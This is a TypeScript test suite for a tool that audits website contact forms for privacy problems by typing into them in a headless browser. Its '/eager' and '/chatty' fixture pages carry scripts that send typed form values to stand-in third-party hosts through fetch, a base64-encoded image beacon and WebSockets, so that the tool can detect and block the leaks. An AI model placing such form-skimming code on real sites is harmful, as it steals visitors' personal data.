/** A contact form in a real browser that types and does not send: what is seen of it, and what is stopped. */
import { createServer, type Server } from 'node:https';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { createHash } from 'node:crypto';
import type { AddressInfo, Socket } from 'node:net';
import chromium from '@sparticuz/chromium';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FrameReader } from '../../src/browser/frames.ts';
import { CHECKS } from '../../src/checks/registry.ts';
import { createAuthority } from '../../src/lab/authority.ts';
import type { ControlSet } from '../../src/model/controls.ts';
import type { FormVisit } from '../../src/model/evidence/form.ts';
import { Network } from '../../src/network/network.ts';
import { formVisit } from '../../src/probes/form-visit.ts';

const OWN = 'www.zaak.example';
const SERVICE = 'f.dienst.example';
const STRANGER = 'r.vreemd.example';
const PIXEL = 'i.vreemd.example';
const HOSTS = [OWN, SERVICE, STRANGER, PIXEL];
const fields =
  '<label>Naam <input name="naam"></label><label>E-mail <input type="email" name="email" required></label><label>Bericht <textarea name="bericht"></textarea></label>';
const form = (attributes: string, more = '') =>
  `<form id="c" ${attributes}>${fields}${more}<p><a href="/privacy">Privacyverklaring</a></p><button>Verstuur</button></form>`;
const SOUND = 'action="/in" method="post"';
const script = (code: string) => `<script>const c = document.getElementById('c'); ${code}</script>`;

const PAGES: Readonly<Record<string, string>> = {
  '/privacy': '<p>Dit doen wij met uw gegevens.</p>',
  '/sound': form(SOUND, '<label><input type="checkbox" name="nb"> Nieuwsbrief</label>'),
  '/text': '<p>Bel ons op werkdagen.</p>',
  '/bad': `<form action="http://${OWN}/in"><label>BSN <input name="bsn" required></label>${fields}<label><input type="checkbox" name="nb" checked> Nieuwsbrief</label><button formaction="https://${STRANGER}/in">A</button><button formaction="http://${OWN}/in">B</button></form><img alt="" src="https://${STRANGER}/p.gif">`,
  // Sends itself as soon as somebody types, to another place each time, and tells its own site that they do.
  '/eager': form(
    SOUND,
    `<span></span>${script(`c.addEventListener('input', (e) => {
      fetch('/draft', { method: 'POST', body: e.target.value }); fetch('/typing', { method: 'POST' });
      fetch('https://${SERVICE}/all', { method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(c)) });
      new Image().src = 'https://${PIXEL}/p.gif?h=' + btoa('{"value":"' + e.target.value + '"}');
    }); c.addEventListener('change', () => { c.requestSubmit(); c.action = 'https://${STRANGER}/elsewhere'; });`)}`,
  ),
  // Drawn late, in a part with its own tree, and sent by a script.
  '/drawn': `<x-form></x-form><script>setTimeout(() => {
    const tree = document.querySelector('x-form').attachShadow({ mode: 'open' });
    tree.innerHTML = '<form>${fields}<button>Verstuur</button></form>';
    tree.querySelector('form').addEventListener('submit', (e) => { e.preventDefault(); fetch('/api'); });
  }, 300)</script>`,
  // Says everything over web sockets that were open before anybody typed.
  '/chatty': form(
    SOUND,
    script(`const [own, other] = ['${OWN}', '${STRANGER}'].map((host) => new WebSocket('wss://' + host + '/live'));
      for (const one of [own, other]) one.onopen = () => one.send('hello');
      c.addEventListener('input', (e) => { for (const one of [own, other]) {
        one.send(e.target.value); one.send(new URLSearchParams(new FormData(c)).toString()); one.send('');
      } });`),
  ),
  '/framed': `<iframe src="https://${SERVICE}/form" width="500" height="400"></iframe>`,
};

let server: Server;
let network: Network;
const sockets = new Set<Socket>();
const stop = new AbortController();
const received: string[] = [];
let seen: Readonly<Record<string, FormVisit>>;

function answer(request: IncomingMessage, response: ServerResponse): void {
  const { host = '', referer = '' } = request.headers;
  const path = request.url ?? '';
  let body = '';
  request.on('data', (chunk: Buffer) => (body += chunk.toString()));
  request.on('end', () => {
    received.push(`${request.method ?? ''} ${host}${path} from ${referer} ${body}`);
    const page = host === SERVICE && path === '/form' ? form(SOUND) : PAGES[path];
    response.setHeader('content-type', 'text/html');
    response.writeHead(page === undefined ? 204 : 200).end(`<!doctype html><title>Zaak</title>${page ?? ''}`);
  });
}

beforeAll(async () => {
  const authority = await createAuthority('Form', new Date());
  const { chain, key } = await authority.issue({ names: HOSTS });
  server = createServer({ key, cert: chain }, answer);
  server.on('connection', (socket: Socket) => sockets.add(socket));
  server.on('upgrade', (request: IncomingMessage, socket: Socket) => {
    // RFC 6455 §4.2.2.
    const key = `${request.headers['sec-websocket-key'] ?? ''}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`;
    const accept = createHash('sha1').update(key).digest('base64');
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: upgrade\r\nsec-websocket-accept: ${accept}\r\n\r\n`,
    );
    const frames = new FrameReader({
      mayPass: (payload) => received.push(`FRAME ${request.headers.host ?? ''} ${payload.toString()}`) > 0,
      pass: () => undefined,
      most: 10_000,
    });
    socket.on('data', (chunk: Buffer) => frames.push(chunk));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const to = { toHost: '127.0.0.1', toPort: (server.address() as AddressInfo).port };
  network = new Network({
    connectTo: HOSTS.map((host) => ({ host, port: 443, ...to })),
    ca: [authority.root],
    timeoutMs: 10_000,
  });
  const paths = Object.keys(PAGES).filter((path) => path !== '/privacy');
  const visits = await Promise.all(paths.map(async (path) => [path, await visit(path)] as const));
  seen = Object.fromEntries(visits);
});

afterAll(() => {
  for (const socket of sockets) socket.destroy();
  server.close();
});

const postedFrom = (path: string) =>
  received.filter((line) => line.startsWith('POST') && line.includes(`from https://${OWN}${path}`));

async function visit(path: string): Promise<FormVisit> {
  const place = { value: `https://${OWN}${path}` };
  const controlSet = {
    statement: { url: `https://${OWN}/privacy` },
    systems: [
      {
        id: 'website',
        url: { value: `https://${OWN}` },
        endpoints: [],
        processors: [SERVICE],
        form: { place, fields: {} },
      },
    ],
  } as unknown as ControlSet;
  const request = {
    id: '',
    kind: 'form.visit',
    system: 'website',
    endpoint: place.value,
    account: null,
    params: {},
  } as const;
  const held = new Map<string, unknown>();
  return formVisit.run(request, {
    network,
    controlSet,
    signal: stop.signal,
    visits: { browser: await chromium.executablePath() },
    shared: <T>(key: string, make: () => T) => (held.has(key) ? held : held.set(key, make())).get(key) as T,
  } as unknown as Parameters<typeof formVisit.run>[1]);
}

/** What each check says: `encrypted: 'encrypted'`. */
function verdictsOn(visited: FormVisit | undefined): Record<string, string> {
  const context = { asOf: '2026-06-01T12:00:00.000Z', system: { id: 'website', url: `https://${OWN}`, active: false } };
  const checks = CHECKS.filter(({ id }) => id.startsWith('form.'));
  return Object.fromEntries(
    checks.map(({ id, judge }) => [id.slice('form.'.length), judge({ 'form.visit': visited! }, {}, context).reason]),
  );
}

describe('form.visit', () => {
  it('types into a sound form and finds nothing wrong', () => {
    expect(verdictsOn(seen['/sound'])).toEqual({
      encrypted: 'encrypted',
      'fields-needed': 'only-needed',
      found: 'found',
      'no-preticked': 'nothing-ticked',
      'no-undeclared-parties': 'only-own',
      'not-in-address': 'post',
      'nothing-before-sending': 'nothing-left',
      'own-target': 'own-target',
      'statement-linked': 'beside-the-form',
    });
    expect(postedFrom('/sound')).toEqual([]);
  });

  it('sees what is wrong with another', () => {
    expect(verdictsOn(seen['/bad'])).toMatchObject({
      encrypted: 'target-over-http',
      'fields-needed': 'sensitive-field',
      'no-preticked': 'preticked',
      'no-undeclared-parties': 'undeclared',
      'not-in-address': 'get',
      'own-target': 'undeclared-target',
      'statement-linked': 'no-link',
    });
    expect(verdictsOn(seen['/text'])).toMatchObject({ found: 'no-form' });
  });

  it('stops a form that sends itself, and sees what its scripts take', () => {
    expect(verdictsOn(seen['/eager'])).toMatchObject({
      'nothing-before-sending': 'leaks',
      'own-target': 'undeclared-target',
    });
    expect(seen['/eager']).toMatchObject({
      leaks: expect.arrayContaining([
        { field: 'email', host: PIXEL, relation: 'undeclared', sentAs: 'encoded' },
        { field: 'bericht', host: OWN, relation: 'own', sentAs: 'plain' },
      ]) as unknown,
    });
    const posted = postedFrom('/eager');
    expect(posted.filter((line) => /\/in |\/draft|\/elsewhere/.test(line))).toEqual([]);
    expect(posted.filter((line) => /naam=w.*email=w/.test(line))).toEqual([]);
    expect(posted.some((line) => line.includes('/typing'))).toBe(true);
  });

  it('holds back what is typed from open web sockets, as from requests, and sees it', () => {
    expect(verdictsOn(seen['/chatty'])).toMatchObject({ 'nothing-before-sending': 'leaks' });
    expect(seen['/chatty']).toMatchObject({
      leaks: expect.arrayContaining([
        { field: 'bericht', host: OWN, relation: 'own', sentAs: 'plain' },
        { field: 'bericht', host: STRANGER, relation: 'undeclared', sentAs: 'plain' },
      ]) as unknown,
    });
    const frames = (host: string) => received.filter((line) => line.startsWith(`FRAME ${host} `));
    // Before anybody typed, and that somebody types.
    expect(new Set(frames(OWN).map((line) => line.slice(`FRAME ${OWN} `.length)))).toEqual(new Set(['hello', '']));
    expect(frames(STRANGER)).toContain(`FRAME ${STRANGER} hello`);
    expect(frames(STRANGER).filter((line) => /naam=w.*bericht=w/.test(line))).toEqual([]);
  });

  it('reads a form that is drawn late in a tree of its own, and one in a frame of another site', () => {
    expect(verdictsOn(seen['/drawn'])).toMatchObject({
      found: 'found',
      'own-target': 'sent-by-script',
      'nothing-before-sending': 'nothing-left',
    });
    expect(verdictsOn(seen['/framed'])).toMatchObject({
      'own-target': 'declared-target',
      'nothing-before-sending': 'nothing-left',
    });
    expect(seen['/framed']).toMatchObject({ forms: [{ frame: { host: SERVICE, relation: 'declared' }, typed: 3 }] });
  });
});
